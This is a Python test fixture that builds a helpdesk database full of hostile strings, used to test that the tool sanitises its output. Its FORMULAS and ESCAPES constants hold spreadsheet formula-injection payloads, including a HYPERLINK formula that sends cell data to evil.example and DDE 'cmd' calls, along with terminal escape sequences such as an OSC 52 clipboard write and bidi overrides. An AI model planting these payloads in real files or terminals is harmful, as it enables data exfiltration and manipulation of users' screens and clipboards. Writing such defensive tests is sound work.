"""A desk whose every outside string is hostile, for the output tests (issue 11, items 6-7).

The corpus: OSC 52 (clipboard write), OSC 0 (window title, BEL- and ST-terminated), CSI
(clear screen, colours), C1 controls (0x9b CSI, 0x9d OSC, 0x9c ST, 0x85 NEL), bidi
overrides and isolates, the other C0 controls (NUL, BEL, BS, CR, VT, FF, DEL), Rich
markup and an emoji code, each behind a spreadsheet formula start (= + - @ TAB CR).

The desk is built through the CLI as an attacker would (titles, bodies, requesters, notes,
reasons, KB articles, plan names, comments, import files), then values the CLI refuses
or cannot set (agent logins and names, categories, group names, SOPs, notifications) are
planted with SQL, as an older version, an import or `sqlite3` on the file could have.
"""

from __future__ import annotations

import csv
import json
import sqlite3
from collections.abc import Mapping
from dataclasses import dataclass, field
from datetime import timedelta
from pathlib import Path

from typer.testing import CliRunner

from helpdesk_tui.cli import app
from helpdesk_tui.services.rbac import os_login
from helpdesk_tui.store.types import utcnow

#: What a spreadsheet would run as a formula, one per hostile value in turn.
FORMULAS = (
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
#: The terminal attacks, all in one string.
ESCAPES = (
    "\x1b]52;c;ZXZpbA==\x07"  # OSC 52: write the clipboard
    "\x1b]0;PWNED\x07\x1b]0;PWNED\x1b\\"  # OSC 0: retitle the window (BEL and ST)
    "\x1b[2J\x1b[5;31m"  # CSI: clear the screen, blinking red
    "\x9b2J\x9d0;PWNED\x9c\x85"  # C1: CSI, OSC, ST, NEL
    "\u202eevil\u202c\u2066x\u2069\u200f\u2028"  # bidi override, isolate, mark; line sep.
    "\x00\x07\x08\r\x0b\x0c\x7f"  # NUL, BEL, BS, CR, VT, FF, DEL
)
MARKUP = "[@click=app.quit]x[/] [bold red]r[/] :warning:"
#: Every escape a short field (a login, a category) can hold in 64 characters. No NUL:
#: short values are also typed on the command line, which cannot carry one (see `run`).
SHORT_ESCAPES = "\x1b]0;PW\x07\x9b2J\u202e\x1b[2J"

_counter = iter(range(10_000))


def evil(tag: str) -> str:
    """A long hostile value: a formula start, the tag, every escape and markup."""
    n = next(_counter)
    return f"{FORMULAS[n % len(FORMULAS)]} {tag} {ESCAPES} {MARKUP} {tag}"


def evil_short(tag: str) -> str:
    """A hostile value of at most 64 characters."""
    n = next(_counter)
    start = ("=", "+", "-", "@", "\t", "\r")[n % 6]
    value = f"{start}{tag}{SHORT_ESCAPES}[b]{n}"
    assert len(value) <= 64
    return value


#: The database file name itself is hostile (`where`, `doctor`, `init` print it).
DB_NAME = "desk \x1b]0;PWNED\x07\x9b2J\u202e.db"


@dataclass
class HostileDesk:
    """The seeded desk and what the command table needs to address its records."""

    root: Path
    db: str
    env: Mapping[str, str]
    tickets: dict[str, int] = field(default_factory=dict)
    article: int = 0
    group: str = ""
    agent: str = ""
    category: str = ""
    plan: str = ""
    survey: int = 0
    improvement: int = 0
    sop: str = ""
    calendar: str = ""
    rule: str = ""
    files: dict[str, Path] = field(default_factory=dict)

    def run(
        self, *args: str, env: Mapping[str, str] | None = None, input: str | None = None
    ) -> tuple[int, bytes, bytes]:
        """Run `helpdesk --db DESK ARGS`; exit code and the raw bytes of stdout and stderr.

        `color=True`: click must not strip ANSI sequences the way it does for a pipe, or
        the test would see less than a terminal gets.
        """
        # A real command line cannot carry a NUL (argv strings end there) and no desk
        # stores one (PostgreSQL cannot): NUL stays in the corpus only where it can
        # really come from, the values planted with SQL.
        argv = [arg.replace("\x00", "") for arg in args]
        result = CliRunner().invoke(
            app, ["--db", self.db, *argv], env={**self.env, **(env or {})}, input=input, color=True
        )
        if result.exception and not isinstance(result.exception, SystemExit):
            raise result.exception
        return result.exit_code, result.stdout_bytes, result.stderr_bytes

    def ok(self, *args: str) -> str:
        """Run a seeding command that must succeed; its stdout."""
        code, out, err = self.run(*args)
        assert code == 0, (args, err.decode())
        return out.decode()

    def sql(self, statement: str, *params: object) -> None:
        """Plant values the CLI would refuse, as sqlite3 on the file could."""
        with sqlite3.connect(self.db) as conn:
            conn.execute(statement, params)


def _new_ticket(desk: HostileDesk, tag: str, *extra: str) -> int:
    out = desk.ok(
        "ticket", "new", "--title", evil(f"title-{tag}"), "--body", evil(f"body-{tag}"),
        "--requester", evil_short(f"req-{tag}"), "--system", evil_short("sys"),
        "--error-codes", evil("codes"), "--tried", evil("tried"), *extra,
    )  # fmt: skip
    return int(out.strip())


def _write_files(desk: HostileDesk) -> None:
    root = desk.root
    # An import file: good rows, a bad row, hostile column names and values.
    imports = root / "import.csv"
    with imports.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["id", "title", "body", "category", "priority", evil_short("col")])
        good = [evil_short("ext"), evil("imported"), evil("ib"), "network", "low", "x"]
        writer.writerow([v.replace("\x00", "") for v in good])  # a NUL would make it bad
        writer.writerow(["bad-1", evil("bad"), "", evil_short("nocat"), evil_short("prio"), "x"])
    desk.files["import"] = imports
    # triage --batch and triage eval inputs: the ids and labels come back out.
    batch = root / "batch.csv"
    with batch.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["id", "text", "category"])
        for formula in FORMULAS:
            writer.writerow([f"{formula}{SHORT_ESCAPES}", evil("batch text"), desk.category])
        writer.writerow([evil_short("id"), "printer jam", "hardware"])
    desk.files["batch"] = batch
    # A SOP folder with a hostile, broken file (lint and sync quote it).
    sops = root / "sops"
    sops.mkdir()
    (sops / "evil.md").write_text(
        "+++\n"
        f"id = {json.dumps(evil_short('sop'))}\n"
        f"title = {json.dumps(evil('sop title'))}\n"
        f"category = {json.dumps(evil_short('cat'))}\n"
        "+++\n" + evil("sop body") + "\n",
        encoding="utf-8",
    )
    desk.files["sops"] = sops
    # A KB folder to import: hostile front matter and body.
    kb_in = root / "kb-in"
    kb_in.mkdir()
    (kb_in / "evil.md").write_text(
        "+++\n"
        f"title = {json.dumps(evil('kb import'))}\n"
        f"category = {json.dumps(evil_short('kbcat'))}\n"
        f"tags = [{json.dumps(evil_short('tag'))}]\n"
        "+++\n" + evil("kb import body") + "\n",
        encoding="utf-8",
    )
    desk.files["kb_in"] = kb_in
    # An old config.toml for `policy import`, a holiday list for `sla calendar ... import`.
    old = root / "old config.toml"
    old.write_text(
        f"[[sla.auto_escalate]]\nname = {json.dumps(f'@rname{SHORT_ESCAPES}')}\n"
        'on = "breach"\nto = "supervisor"\n',
        encoding="utf-8",
    )
    desk.files["policy"] = old
    holidays = root / "holidays.csv"
    holidays.write_text(f"2026-12-24\nday{SHORT_ESCAPES}\n", encoding="utf-8")
    desk.files["holidays"] = holidays
    # `kb export` names its folder in the confirmation line.
    desk.files["kb_out"] = root / "kb out \x1b]0;PWNED\x07\u202e"


def seed(root: Path) -> HostileDesk:
    """Build the hostile desk under `root` (its own data and config directories)."""
    # The data and config directories' names are hostile too: `where`, `doctor` and
    # `secret list` print paths under them.
    config = root / "config \x1b]0;PWNED\x07\u202e"
    config.mkdir(parents=True)
    env = {
        "HELPDESK_DATA_DIR": str(root / "data \x1b]0;PWNED\x07\u202e"),
        "HELPDESK_CONFIG_DIR": str(config),
        "COLUMNS": "400",  # wide tables: more of each hostile cell reaches the output
    }
    desk = HostileDesk(root=root, db=str(root / DB_NAME), env=env)
    desk.ok("init", "--timezone", "UTC")
    me = os_login()
    # The questionnaire is desk policy: its texts are outside text too.
    desk.ok("survey", "questions", "set", f"q1={evil('question')}")

    # Values the CLI refuses or cannot set, planted in the database.
    desk.category = evil_short("cat")
    desk.sql(
        "INSERT INTO category (name, label, position, active) VALUES (?, ?, 99, 1)",
        desk.category,
        evil("category label"),
    )
    desk.group = evil_short("group")
    desk.sql("UPDATE support_group SET name = ? WHERE name = 'L2 Network'", desk.group)
    desk.sql("UPDATE support_group SET name = ? WHERE name = 'Service Desk'", evil_short("sd"))
    desk.ok("user", "add", "mallory", "--name", "Mallory", "-g", "L2 Desktop")
    desk.agent = evil_short("login")
    desk.sql("UPDATE agent SET login = ?, name = ? WHERE login = 'mallory'", desk.agent, evil("n"))
    desk.sql("UPDATE agent SET name = ? WHERE login = ?", evil("admin name"), me)
    # Desk policy the CLI would refuse: a calendar and an auto-escalation rule.
    # Fixed starts (not evil_short): its counter decides which values start with "-", and
    # the seeding commands below pass some of them without "--".
    desk.calendar = f"=cal{SHORT_ESCAPES}"  # a formula, but no option (`show NAME --json`)
    desk.sql(
        "INSERT INTO calendar (name, timezone, weekdays, opens, closes, holidays) "
        "VALUES (?, 'UTC', '0,1,2,3,4', '08:00', '18:00', '2026-12-25')",
        desk.calendar,
    )
    desk.sql(
        "UPDATE sla_policy SET calendar_id = (SELECT id FROM calendar WHERE name = ?) "
        "WHERE priority = 'informational'",
        desk.calendar,
    )
    desk.rule = f"+rule{SHORT_ESCAPES}"
    desk.sql(
        "INSERT INTO sla_rule (name, priorities, categories, on_level, clock, to_supervisor, "
        "to_group_id, active, created_at) SELECT ?, 'high', ?, 'breach', 'resolution', 0, id, "
        "1, ? FROM support_group WHERE name = ?",
        desk.rule,
        desk.category,
        utcnow().isoformat(sep=" "),
        desk.group,
    )

    # Tickets through the CLI, in every state the list and show commands have.
    tickets = desk.tickets
    # A category other than triage's suggestion needs its reason: a hostile one here.
    why = ("--reason", evil("why"))
    tickets["new"] = _new_ticket(desk, "new", "--category", desk.category, *why)
    tickets["noted"] = _new_ticket(desk, "noted")
    desk.ok("ticket", "note", str(tickets["noted"]), evil("note"), "--kind", "call")
    desk.ok("ticket", "take", str(tickets["noted"]))
    tickets["escalated"] = _new_ticket(desk, "esc", "--category", desk.category, *why)
    desk.ok("ticket", "take", str(tickets["escalated"]))
    desk.ok(
        "ticket", "escalate", str(tickets["escalated"]), "--reason", evil("reason"),
        "--to", desk.group, "--package", evil("package"),
    )  # fmt: skip
    tickets["handed_back"] = _new_ticket(desk, "hb")
    desk.ok("ticket", "take", str(tickets["handed_back"]))
    desk.ok(
        "ticket", "escalate", str(tickets["handed_back"]), "--reason", evil("r2"),
        "--to", desk.group,
    )  # fmt: skip
    desk.ok("ticket", "handback", str(tickets["handed_back"]), "--note", evil("handback"))
    tickets["resolved"] = _new_ticket(desk, "res", "--category", desk.category, *why)
    desk.ok("ticket", "take", str(tickets["resolved"]))
    desk.ok(
        "ticket", "status", str(tickets["resolved"]), "resolved", "--code", "solved_permanent",
        "-m", evil("resolution"),
    )  # fmt: skip
    for n in range(6):  # closed tickets of two categories: training data and survey targets
        category = desk.category if n % 2 else "hardware"
        tid = _new_ticket(desk, f"closed{n}", "--category", category, *why)
        desk.ok("ticket", "take", str(tid))
        desk.ok(
            "ticket", "status", str(tid), "resolved", "--code", "solved_permanent", "-m", evil("r")
        )  # fmt: skip
        # Closed directly: the closure rules are not what this desk is for.
        desk.sql("UPDATE ticket SET status = 'closed', closed_at = resolved_at WHERE id = ?", tid)
    for formula in FORMULAS:  # a title starting with each formula, for the CSV test
        desk.ok("ticket", "new", "--title", f"{formula} {ESCAPES}")
    # One ticket for each command that changes a ticket, so their order never matters.
    for name in ("update", "note", "take", "status", "escalate", "handback", "ask", "confirm"):
        tickets[f"w_{name}"] = _new_ticket(desk, f"w-{name}")
    desk.ok("ticket", "take", str(tickets["w_handback"]))
    desk.ok("ticket", "escalate", str(tickets["w_handback"]), "--reason", "x", "--to", desk.group)
    desk.ok("ticket", "take", str(tickets["w_confirm"]))
    desk.ok(
        "ticket", "status", str(tickets["w_confirm"]), "resolved", "--code", "solved_permanent",
        "-m", "fixed",
    )  # fmt: skip

    # Knowledge: an article through the CLI, SOPs planted.
    desk.article = int(
        desk.ok(
            "kb", "new", "--title", evil("kb title"), "--body", evil("kb body"),
            "--tag", evil_short("tag"), "--category", desk.category, "--publish",
        ).strip()
    )  # fmt: skip
    desk.ok("sop", "sync")
    desk.sop = json.loads(desk.ok("sop", "list", "--json"))[0]["id"]
    desk.sql(
        "UPDATE sop SET title = ?, category = ?, steps = ?, escalate_if = ? WHERE id = ?",
        evil("sop title"),
        desk.category,
        json.dumps([evil("step one"), evil("step two")]),
        json.dumps([evil("escalate if")]),
        desk.sop,
    )

    # Surveys: a hostile plan, a callback answered with a low score and a comment.
    desk.plan = evil_short("plan")
    since = (utcnow() - timedelta(days=30)).isoformat()
    desk.ok("survey", "plan", "add", desk.plan, "--rate", "1", "--delay", "0h", "--since", since)
    due = json.loads(desk.ok("survey", "due", "--json"))
    desk.survey = due[0]["survey_id"]
    recorded = json.loads(
        desk.ok(
            "survey", "record", str(due[1]["survey_id"]), "--outcome", "done", "--consent",
            "--answer", "q1=1", "--comment", evil("comment"), "--json",
        )
    )  # fmt: skip
    assert recorded["status"] == "done"
    improvements = json.loads(desk.ok("survey", "improvements", "--json"))
    desk.improvement = improvements[0]["id"]

    # A notification whose text is hostile (the watcher writes them from ticket data).
    desk.sql(
        "INSERT INTO notification (agent_id, ticket_id, kind, text, created_at) "
        "SELECT id, ?, 'breach', ?, ? FROM agent WHERE login = ?",
        tickets["escalated"],
        evil("notification"),
        utcnow().isoformat(sep=" "),
        me,
    )
    desk.ok("triage", "train")
    code, _, err = desk.run("secret", "set", "smtp", "--file", input="not-shown\n")
    assert code == 0, err.decode()
    _write_files(desk)
    return desk
